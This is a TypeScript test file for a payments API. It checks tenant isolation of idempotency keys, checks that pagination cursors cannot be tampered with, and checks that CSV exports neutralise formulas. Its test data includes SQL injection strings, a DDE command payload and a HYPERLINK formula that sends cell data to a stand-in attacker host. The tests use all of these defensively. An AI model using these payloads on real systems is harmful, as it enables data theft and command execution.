import { transactionCsvHeader, transactionCsvRow } from '@kopai/contracts';
import { beforeAll, describe, expect, test } from 'vitest';
import { freshDatabase, type TestDatabase } from '../database.ts';
import { grant, type RunningServer } from '../running-server.ts';
import { home, serverWithVictim } from './victim.ts';

const credit = 1_000_000n;
let database: TestDatabase;
let server: RunningServer;

beforeAll(async () => {
  database = await freshDatabase();
  ({ server } = await serverWithVictim(database, () => Date.now()));
});

const sessionOf = async (userId: string) =>
  (await server.kopai.sessions.create({ userId, orgs: [], scopes: ['wallet:read', 'topup'] })).token;

describe('an idempotency key', () => {
  const buy = (token: string, key: string, wallet = 'me') =>
    server.call('POST /v1/topups', {
      token,
      headers: { 'Idempotency-Key': key },
      body: { wallet, packId: 'starter', successUrl: `${home}/`, cancelUrl: `${home}/` },
    });

  test('of one tenant shows another nothing: the same key and body are another request', async () => {
    const [ann, ben] = await Promise.all([sessionOf('ann'), sessionOf('ben')]);
    const first = await buy(ann, 'shared');
    const second = await buy(ben, 'shared');
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(second.headers.get('Idempotency-Replayed')).toBeNull();
    const [mine, theirs] = [await first.json(), await second.json()];
    expect(mine.wallet).toBe('user:ann');
    expect(theirs.wallet).toBe('user:ben');
    expect(theirs.checkoutUrl).not.toBe(mine.checkoutUrl);
    expect((await (await buy(ann, 'shared')).json()).id).toBe(mine.id);
  });

  test('of the operator is not that of a user who is called so', async () => {
    const operator = await buy(server.secretKey, 'named', 'user:ann');
    const named = await buy(await sessionOf('operator'), 'named', 'me');
    expect([operator.status, named.status]).toEqual([201, 201]);
    expect((await named.json()).wallet).toBe('user:operator');
  });

  test('of one route is not that of another', async () => {
    const keyed = { token: server.secretKey, headers: { 'Idempotency-Key': 'one-for-all' } };
    const session = await server.call('POST /v1/sessions', { ...keyed, body: { userId: 'ann' } });
    const key = await server.call('POST /v1/keys', { ...keyed, body: { name: 'k', scopes: ['charges:read'] } });
    expect([session.status, key.status]).toEqual([201, 201]);
    expect((await key.json()).object).toBe('api_key');
  });

  test('opens nothing for whoever may not ask, even where the answer is kept', async () => {
    await server.call('POST /v1/keys', {
      token: server.secretKey,
      headers: { 'Idempotency-Key': 'shows-a-secret' },
      body: { name: 'admin', scopes: ['admin'] },
    });
    const reader = await server.kopai.keys.create({ name: 'reader', scopes: ['wallets:read'] });
    for (const token of [reader.key, await sessionOf('ann'), 'kopai_sk_guess']) {
      const response = await server.call('POST /v1/keys', {
        token,
        headers: { 'Idempotency-Key': 'shows-a-secret' },
        body: { name: 'admin', scopes: ['admin'] },
      });
      expect([401, 403]).toContain(response.status);
      expect(await response.text()).not.toContain('kopai_sk_');
    }
  });
});

describe('a cursor', () => {
  const read = async (token: string, query: string) => {
    const response = await server.call(`GET /v1/wallets/me/transactions?${query}`, { token });
    return { status: response.status, body: await response.json() };
  };

  test('of another’s list shows one’s own, and never theirs', async () => {
    for (const user of ['user:cas', 'user:dan']) for (let i = 0; i < 4; i++) await grant(server.kopai, user, credit);
    const [cas, dan] = await Promise.all([sessionOf('cas'), sessionOf('dan')]);
    const page = await read(cas, 'limit=2');
    const stolen = await read(dan, `limit=2&cursor=${page.body.nextCursor}`);
    expect(stolen.status).toBe(200);
    expect(stolen.body.data.length).toBeGreaterThan(0);
    for (const line of stolen.body.data) expect(line.wallet).toBe('user:dan');
  });

  const encoded = (text: string) => Buffer.from(text).toString('base64url');
  const tampered = [
    'x',
    '%00',
    encoded('\0'),
    encoded('-1'),
    encoded('1e9'),
    encoded('99999999999999999999'),
    encoded("1' or '1'='1"),
    encoded('1; drop table charges'),
    `${encoded('1')}=`,
    encoded('{"wallet":"user:victim"}'),
    'A'.repeat(501),
  ];

  test.each(tampered)('that was tampered with is refused, or means nothing: %s', async (cursor) => {
    const history = await read(await sessionOf('cas'), `cursor=${cursor}`);
    expect([history.status, history.body.code]).toEqual([400, 'invalid_request']);
    for (const list of ['keys', 'models', 'agents', 'audit-log', 'webhook-endpoints', 'payouts?wallet=org:victims']) {
      const join = list.includes('?') ? '&' : '?';
      const response = await server.call(`GET /v1/${list}${join}cursor=${cursor}`, { token: server.secretKey });
      expect([200, 400]).toContain(response.status);
      await response.body?.cancel();
    }
  });

  test('shows a stranger no list at all', async () => {
    const { nextCursor } = (await read(await sessionOf('cas'), 'limit=2')).body;
    const response = await server.call(`GET /v1/wallets/user:cas/transactions?cursor=${nextCursor}`, {
      token: await sessionOf('dan'),
    });
    expect((await response.json()).code).toBe('wallet_forbidden');
  });
});

describe('a history as a file', () => {
  const formulas = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '＝1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '"=1+1',
    'a,=1+1',
    'a\r\n=1+1',
  ];

  test.each(formulas)('runs no formula: %j', (formula) => {
    const row = transactionCsvRow({ ...line, agentName: formula, reason: formula, userId: formula });
    const cells = parsedCsv(row)[0] ?? [];
    expect(parsedCsv(row)).toHaveLength(1);
    expect(cells).toHaveLength(transactionCsvHeader.split(',').length);
    for (const cell of cells)
      expect(/^[=+@\t\r\n＝＋－＠]|^-(?!\d+(\.\d+)?$)/.test(cell), JSON.stringify(cell)).toBe(false);
  });

  test('keeps amounts as the numbers they are', async () => {
    await server.kopai.adjustments.create({ wallet: 'user:cas', amount: -credit, reason: '=1+1' });
    const csv = await (
      await server.call('GET /v1/wallets/user:cas/transactions', {
        token: server.secretKey,
        headers: { Accept: 'text/csv' },
      })
    ).text();
    expect(csv).toContain(',-1,3,');
    expect(csv).toContain(",'=1+1,");
  });

  const line = {
    id: 'txn_0',
    object: 'transaction',
    wallet: 'user:a',
    seq: 1,
    kind: 'charge',
    amount: -credit,
    balanceAfter: credit,
    earnings: null,
    createdAt: '2026-01-01T00:00:00.000Z',
    agentId: 'a',
    agentName: null,
    userId: null,
    messageId: null,
    chargeId: null,
    topupId: null,
    parts: null,
    reason: null,
    receiptUrl: null,
  } as const;
});

/** Reads CSV as a spreadsheet does. */
function parsedCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (quoted === undefined && plain === '' && end === '') break;
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}
